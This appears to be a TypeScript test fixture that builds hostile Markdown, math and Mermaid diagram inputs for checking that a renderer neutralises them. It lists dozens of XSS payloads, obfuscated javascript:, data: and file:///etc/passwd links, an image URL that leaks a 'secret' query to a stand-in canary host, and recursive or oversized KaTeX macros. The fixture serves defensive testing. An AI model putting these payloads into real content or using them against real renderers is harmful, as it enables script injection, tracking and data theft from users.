/** Hostile Markdown: every payload in every position where a model or a person could write it. */

const canary = 'https://canary.example'

const markup = [
  `<script>window.hit=1</script>`,
  `<script src="${canary}/s.js"></script>`,
  `<img src=x onerror="window.hit=1">`,
  `<img src="${canary}/p.png">`,
  `<svg onload="window.hit=1"></svg>`,
  `<svg><script>window.hit=1</script></svg>`,
  `<svg><image href="${canary}/i.png"/></svg>`,
  `<svg><animate onbegin="window.hit=1" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<object data="${canary}/o"></object>`,
  `<embed src="${canary}/e">`,
  `<math><mtext><img src=x onerror="window.hit=1"></mtext></math>`,
  `<math href="javascript:window.hit=1">x</math>`,
  `<style>@import url(${canary}/c.css)</style>`,
  `<style>*{background:url(${canary}/b)}</style>`,
  `<link rel=stylesheet href="${canary}/l.css">`,
  `<base href="${canary}/">`,
  `<form action="${canary}"><button>go</button></form>`,
  `<meta http-equiv=refresh content="0;url=${canary}">`,
  `<body onload="window.hit=1">`,
  `<input autofocus onfocus="window.hit=1">`,
  `<details open ontoggle="window.hit=1"><summary>x</summary></details>`,
  `<video src="${canary}/v" onerror="window.hit=1"></video>`,
  `<audio src=x onerror="window.hit=1">`,
  `<marquee onstart="window.hit=1">x</marquee>`,
  `<a href="javascript:window.hit=1">x</a>`,
  `<div style="background:url(${canary}/d)">x</div>`,
  `<template><script>window.hit=1</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=window.hit=1>">`,
  `<<script>script>window.hit=1</script>`,
  `<scr\u0000ipt>window.hit=1</scr\u0000ipt>`,
  `<IMG """><SCRIPT>window.hit=1</SCRIPT>">`,
  `<!--><img src=x onerror=window.hit=1>-->`,
  `<![CDATA[<img src=x onerror=window.hit=1>]]>`,
  `<?xml-stylesheet href="${canary}/x.css"?>`,
  `<portal src="${canary}">`,
  `<picture><source srcset="${canary}/s.png"><img></picture>`,
  `<img srcset="${canary}/t.png 1x">`,
  `<table background="${canary}/t">`,
]

const addresses = [
  'javascript:window.hit=1',
  'JaVaScRiPt:window.hit=1',
  'java\tscript:window.hit=1',
  'java&#10;script:window.hit=1',
  '&#106;avascript:window.hit=1',
  '&#x6A;avascript:window.hit=1',
  'javascript&colon;window.hit=1',
  '\u0001javascript:window.hit=1',
  'vbscript:msgbox(1)',
  'data:text/html,<script>parent.hit=1</script>',
  'data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=hit=1>',
  'blob:https://canary.example/1',
  'file:///etc/passwd',
  'filesystem:https://canary.example/x',
  '//canary.example/x',
  'https:canary.example/x',
  'https://canary.example/p.png?d=secret',
  'https://canary.example@canary.example/',
  'view-source:https://canary.example',
  'about:blank',
  'x:y',
  'ws://canary.example',
  '\\\\canary.example\\x',
  'http://[::1]:9/x',
]

const places: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `before ${payload} after`,
  (payload) => `| a | b |\n|---|---|\n| ${payload.replaceAll('|', '')} | 2 |`,
  (payload) => `> - # ${payload}`,
  (payload) => `**${payload}**[^1]\n\n[^1]: ${payload}`,
]

const linkPlaces: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](<${address}>)`,
  (address) => `[x][r] ![y][r]\n\n[r]: <${address}>`,
  (address) => `<${address}>`,
]

const mathematics = [
  `$\\href{javascript:window.hit=1}{x}$`,
  `$\\url{${canary}}$`,
  `$\\includegraphics{${canary}/m.png}$`,
  `$\\htmlStyle{background:url(${canary}/k)}{x}$`,
  `$\\htmlData{x=y}{x}$`,
  `$\\htmlId{location}{x}$`,
  `$$\n\\text{<img src=x onerror=window.hit=1>}\n$$`,
  `$\\def\\a{\\a\\a}\\a$`,
  `$\\rule{9999em}{9999em}$`,
  `$\\unicode{<script>}$`,
]

const hostileDiagrams = [
  `graph TD\n A["<img src=x onerror=window.hit=1>"] --> B`,
  `graph TD\n A["<img src='${canary}/d.png'>"] --> B`,
  `graph TD\n A-->B\n click A "javascript:window.hit=1"`,
  `graph TD\n A-->B\n click A call window.alert()`,
  `%%{init: {"securityLevel":"loose","htmlLabels":true,"flowchart":{"htmlLabels":true}}}%%\ngraph TD\n A["<img src='${canary}/l.png' onerror='window.hit=1'>"]`,
  `%%{init: {"themeCSS":"* { background: url(${canary}/css) }"}}%%\ngraph TD\n A-->B`,
  `---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import url(${canary}/i.css)"\n---\ngraph TD\n A-->B`,
  `graph TD\n A@{ img: "${canary}/shape.png", label: "x" }`,
  `graph TD\n A-->B\n style A fill:url(${canary}/f)`,
  `graph TD\n classDef x fill:red,background:url(${canary}/k)\n A:::x`,
  'graph TD\n A["`![x](' + canary + '/md.png)`"] --> B',
  `sequenceDiagram\n A->>B: <script>window.hit=1</script>`,
  `sequenceDiagram\n participant A\n link A: x @ javascript:window.hit=1`,
  `%%{init: {"fontFamily":"x;} @import url(${canary}/g);"}}%%\ngraph TD\n A-->B`,
]

/** Texts whose only safe outcome is that nothing happens. */
export const hostileTexts: string[] = [
  ...markup.flatMap((payload) => places.map((place) => place(payload))),
  ...addresses.flatMap((address) => linkPlaces.map((place) => place(address))),
  ...mathematics,
]

export const hostileDiagramTexts: string[] = hostileDiagrams.map(
  (diagram) => `\`\`\`mermaid\n${diagram}\n\`\`\``,
)
